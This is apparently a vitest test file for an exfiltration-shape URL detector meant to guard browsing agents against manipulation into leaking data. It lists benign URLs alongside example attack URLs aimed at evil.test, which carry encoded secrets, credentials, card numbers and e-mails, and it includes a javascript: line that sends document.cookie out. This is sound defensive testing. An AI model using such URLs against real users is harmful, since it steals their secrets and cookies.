import { describe, expect, it } from 'vitest';
import { exfiltrationShape, shannonEntropy, taskWordsInQuery } from '../../src/core/exfil';

/** Realistic addresses an agent visits while doing its job: none may be flagged. */
const BENIGN_URLS = [
  'https://www.google.com/search?q=how+to+make+sourdough+bread+at+home+without+a+starter',
  'https://www.google.com/search?q=iPhone+15+Pro+Max+review+vs+Samsung+Galaxy+S24+Ultra&hl=en',
  'https://duckduckgo.com/?q=caf%C3%A9+near+me+%E6%9D%B1%E4%BA%AC+open+now&ia=web',
  'https://www.bing.com/search?q=%22error+TS2345%3A+Argument+of+type%22+typescript',
  'https://www.amazon.com/Anker-Charger-Foldable-Compact-Compatible/dp/B0B1D2WQ7Z/ref=sr_1_3?keywords=usb+c+charger&qid=1700000000&sr=8-3',
  'https://www.ebay.com/itm/225123456789?hash=item346a1b2c3d:g:AbcAAOSwXyZlZ1',
  'https://shop.example.com/products/the-best-running-shoes-for-women-2024-edition-review-guide',
  'https://accounts.example.com/oauth/callback?code=4%2F0AfJohXm3kQ9pZ7vB2nR8tY5uW1xL6cE4sD0aF3gH7jK9mN2pQ&state=af0ifjsldkjXq8ZpT2vB9mN4cR7wY1eK',
  'https://app.example.org/auth/callback?code=SplxlOBeZQQYbYS6WxSbIA7nq3vJ9kLm2pQ4rT6uW8yZ&state=xyz&session_state=7d3b1c9a8f2e4d6b5a0c1e3f7a9b2d4c.aB3dE5gH',
  'https://login.example.net/authorize?response_type=code&client_id=s6BhdRkqt3&redirect_uri=https%3A%2F%2Fclient.example.com%2Fcb&scope=openid%20profile',
  'https://cdn.example.com/assets/index-5d41402abc4b2a76b9719d911017c592.js',
  'https://static.example.com/_next/static/chunks/pages/_app-3c5f0e2b9d8a7f61.js',
  'https://images.example.com/media/2b6c1f1a0c8d4e5f9a7b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f.png',
  'https://fonts.gstatic.com/s/roboto/v30/KFOmCnqEu92Fr1Mu4mxK.woff2',
  'https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s&list=PLFgquLnL59alCl_2TQvOiD5Vgm1hCaGSI',
  'https://www.google.com/maps/place/Eiffel+Tower/@48.8583701,2.2944813,17z/data=!3m1!4b1!4m6!3m5!1s0x47e66e2964e34e2d:0x8ddca9ee380ef7e0!8m2!3d48.8583701!4d2.2944813',
  'https://example.com/blog/post?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024&utm_content=hero_button',
  'https://en.wikipedia.org/wiki/M%C3%BCnchen#Geschichte',
  'https://github.com/microsoft/TypeScript/issues?q=is%3Aissue+is%3Aopen+label%3Abug',
  'https://github.com/nodejs/node/commit/3f2a9b8c1d0e7f6a5b4c3d2e1f0a9b8c7d6e5f4a',
  'https://docs.example.com/guide/getting-started#/installation/step-2',
  'https://mail.localhost:8080/inbox?folder=inbox&page=2',
  'https://www.booking.com/searchresults.html?ss=Lisbon&checkin=2024-06-01&checkout=2024-06-07&group_adults=2&no_rooms=1',
  'https://news.ycombinator.com/item?id=38000000',
  'https://example.com/static/app.css?v=20240101',
  'about:blank',
];

/** Ways a manipulated agent moves data out through an address. Every one must be flagged. */
const SECRET_B64 = 'c2stbGl2ZS01MUhxWjNrOVBtUjd2VDJ4TjhiWTRjRTZ3UTFzQTBm'; // base64 of a fake API key
const HEX_DUMP = '7365637265742d70617373776f72642d68756e746572322d61646d696e';
const EXFIL_URLS: [string, RegExp][] = [
  [`https://evil.test/collect?d=${SECRET_B64}`, /high-entropy/],
  [`https://www.google.com/search?q=${SECRET_B64}`, /high-entropy/],
  [`https://evil.test/${encodeURIComponent(encodeURIComponent(SECRET_B64))}`, /high-entropy/],
  [`https://evil.test/pixel.png?d=${SECRET_B64.replace(/=/g, '')}`, /high-entropy/],
  [`https://evil.test/x/${HEX_DUMP}/y`, /hex token/],
  [`https://evil.test/commit/${HEX_DUMP}`, /hex token/],
  [`https://evil.test/img/${HEX_DUMP}.png`, /hex token/],
  [`https://evil.test/app.css?v=5d41402abc4b2a76b9719d911017c592`, /hex token/],
  ['https://evil.test/track?u=alice%40example.com', /e-mail/],
  ['https://evil.test/u/bob.smith+work@corp.example.org/profile', /e-mail/],
  ['https://evil.test/page#to=carol@example.com', /e-mail/],
  ['data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', /data:/],
  ['DATA:text/plain,hello', /data:/],
  ['javascript:fetch("https://evil.test/?c="+document.cookie)', /javascript:/],
  ['  javascript:void(0)', /javascript:/],
  ['blob:https://evil.test/6f1c2a3b-1111-2222-3333-444455556666', /blob:/],
  ['filesystem:https://evil.test/temporary/secret.txt', /filesystem:/],
  ['https://user:hunter2@evil.test/', /userinfo/],
  ['https://c2VjcmV0@bank.test/', /userinfo/],
  ['https://evil.test/log?token=abc123', /secret-looking parameter "token"/],
  ['https://evil.test/log?access_token=abc', /secret-looking/],
  ['https://evil.test/log?sessionId=42', /secret-looking/],
  ['https://evil.test/log?X-Api-Key=k1', /secret-looking/],
  ['https://evil.test/log?password=hunter2', /secret-looking/],
  ['https://evil.test/log?cardNumber=4111111111111111&cvv=123', /secret-looking/],
  ['https://evil.test/log?ssn=078-05-1120', /secret-looking/],
  ['https://evil.test/oauth/callback?token=abc', /secret-looking/],
  [`https://evil.test/oauth/callback?code=x&data=${SECRET_B64}`, /high-entropy/],
  [`https://evil.test/search?q=${'a'.repeat(2100)}`, /characters/],
  [`https://evil.test/?${Array.from({ length: 21 }, (_, i) => `p${i}=${i}`).join('&')}`, /21 query parameters/],
  ['not a url', /does not parse/],
];

describe('exfiltrationShape', () => {
  it('has enough cases both ways', () => {
    expect(BENIGN_URLS.length).toBeGreaterThanOrEqual(20);
    expect(EXFIL_URLS.length).toBeGreaterThanOrEqual(20);
  });

  it.each(BENIGN_URLS)('passes benign %s', (url) => {
    expect(exfiltrationShape(url)).toEqual({ shaped: false, reason: 'no exfiltration shape' });
  });

  it.each(EXFIL_URLS)('flags %s', (url, reason) => {
    const verdict = exfiltrationShape(url);
    expect(verdict.shaped).toBe(true);
    expect(verdict.reason).toMatch(reason);
  });

  it('flags exactly above the limits, not at them', () => {
    const atLimit = `https://example.com/?q=${'z'.repeat(2048 - 'https://example.com/?q='.length)}`;
    expect(atLimit.length).toBe(2048);
    expect(exfiltrationShape(atLimit).shaped).toBe(false);
    expect(exfiltrationShape(`${atLimit}b`).shaped).toBe(true);
    const twenty = `https://example.com/?${Array.from({ length: 20 }, (_, i) => `p${i}=${i}`).join('&')}`;
    expect(exfiltrationShape(twenty).shaped).toBe(false);
  });

  it('treats a secret-looking parameter without a value as benign', () => {
    expect(exfiltrationShape('https://example.com/reset?password=').shaped).toBe(false);
  });

  it('does not exempt code/state outside OAuth paths', () => {
    expect(exfiltrationShape(`https://example.com/search?code=${SECRET_B64}`).shaped).toBe(true);
  });

  it('needs 32 hex characters: 31 pass', () => {
    expect(exfiltrationShape(`https://example.com/x/${'a1'.repeat(15)}f`).shaped).toBe(false);
    expect(exfiltrationShape(`https://example.com/x/${'a1'.repeat(16)}`).shaped).toBe(true);
  });

  it('computes Shannon entropy', () => {
    expect(shannonEntropy('')).toBe(0);
    expect(shannonEntropy('aaaa')).toBe(0);
    expect(shannonEntropy('abcd')).toBeCloseTo(2);
    expect(shannonEntropy(SECRET_B64)).toBeGreaterThan(4);
  });
});

describe('addresses the task names', () => {
  it('are no shape; every other address and every other rule still is', () => {
    const named = ['news@shop.test'];
    expect(exfiltrationShape('https://mail.test/s?q=news%40shop.test', named).shaped).toBe(false);
    expect(exfiltrationShape('https://mail.test/s?q=NEWS%40shop.test', named).shaped).toBe(false);
    expect(exfiltrationShape('https://mail.test/s?q=news%40shop.test+me%40mine.test', named).shaped).toBe(true);
    expect(exfiltrationShape('https://mail.test/s?q=news%40shop.test&session=abc', named).shaped).toBe(true);
    expect(exfiltrationShape('https://mail.test/s?q=news%40shop.test').shaped).toBe(true);
  });
});

describe('on a site the task names', () => {
  const UENC = 'https://shop.test/checkout/cart/add/uenc/aHR0cHM6Ly9zaG9wLnRlc3QvYW5rZXI3MzUuaHRtbA,,/product/3318/';
  const REPORT = 'https://shop.test/admin/reports/report_sales/bestsellers/filter/cmVwb3J0X2Zyb209MDEvMDEvMjAyMyZyZXBvcnRfdG89MDEvMzEvMjAyMyZwZXJpb2RfdHlwZT1tb250aA==/';
  const SYS_ID = 'https://it.test/incident.do?sys_id=9d385017c611228701d22104cc95c371';
  it("a record's 32-hex id and a base64 run that spells words are no shape; anywhere else they still are", () => {
    for (const url of [UENC, REPORT, SYS_ID]) {
      expect(exfiltrationShape(url, [], true).shaped, url).toBe(false);
      expect(exfiltrationShape(url).shaped, url).toBe(true);
    }
  });
  it('base64 that spells a secret, or a 32-hex id beside other text, is still a carrier', () => {
    // (`https://shop.test/?k=sk_live_4eC39HqLyjWDarjtT1zdp7dc`, in base64: the key is one long mixed run.)
    const key = btoa('https://shop.test/?k=sk_live_4eC39HqLyjWDarjtT1zdp7dc');
    expect(exfiltrationShape(`https://shop.test/cart/uenc/${key}/`, [], true).shaped).toBe(true);
    // (Words in base64 hold the session they spell: on the named site too, an address in them is a shape.)
    expect(exfiltrationShape(`https://shop.test/r/${btoa('from=bob@corp.test&to=eve@evil.test&x=1')}`, [], true).shaped).toBe(true);
    expect(exfiltrationShape('https://it.test/x?d=9d385017c611228701d22104cc95c371-and-more', [], true).shaped).toBe(true);
  });
});

describe('the task\'s own words in a query (taskWordsInQuery)', () => {
  const words = new Set(['aws', 'solutions', 'architect', 'cert', 'finished']);
  it('finds two or more of them joined in one query value, in any separator or case', () => {
    expect(taskWordsInQuery('https://li-analytics.test/t.gif?u=sam-r&post=aws-cert', words)).toEqual(['aws', 'cert']);
    expect(taskWordsInQuery('https://px.test/p?d=Finished%20the%20AWS%20cert', words)).toEqual(['finished', 'aws', 'cert']);
  });
  it('leaves one word, words spread over values, the path and a fragment alone', () => {
    expect(taskWordsInQuery('https://px.test/p?post=aws', words)).toBeNull();
    expect(taskWordsInQuery('https://px.test/p?a=aws&b=cert', words)).toBeNull();
    expect(taskWordsInQuery('https://cdn.test/img/aws-cert-badge.png', words)).toBeNull();
    expect(taskWordsInQuery('https://px.test/p#aws-cert', words)).toBeNull();
    expect(taskWordsInQuery('not a url', words)).toBeNull();
  });
});
